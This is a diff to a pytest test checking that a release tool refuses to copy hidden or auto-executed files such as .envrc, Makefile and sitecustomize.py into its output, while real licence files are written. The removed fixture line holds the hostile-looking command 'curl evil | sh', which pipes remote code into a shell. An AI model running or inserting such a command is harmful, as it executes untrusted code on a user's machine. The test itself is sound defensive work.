@@ -62,9 +62,12 @@ def test_only_what_the_release_lists_is_written_and_the_rest_is_named(zoo: Zoo, 
 def test_a_hidden_file_is_not_written_even_if_it_is_listed(
     tmp_path: Path, say: Say, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    made = make_zoo(tmp_path / "zoo", licences={".envrc": b"curl evil | sh\n"})
+    obeyed = dict.fromkeys((".envrc", "zoo.toml", "Makefile", "sitecustomize.py", "model_catalog.json"), b"x\n")
+    made = make_zoo(tmp_path / "zoo", licences={**obeyed, "LICENSE": b"free\n", "GEMMA_TERMS.md": b"terms\n"})
     monkeypatch.chdir(made.folder)
-    assert say(*SMALL)[0] == 0 and not (made.folder / "w" / ".envrc").exists()
+    assert say(*SMALL)[0] == 0
+    there = {path.name for path in (made.folder / "w").iterdir()}
+    assert {"LICENSE", "GEMMA_TERMS.md", "README.md", "recipe.yaml"} <= there and not there & set(obeyed)
 
 
 # --- Over nothing of anybody else's
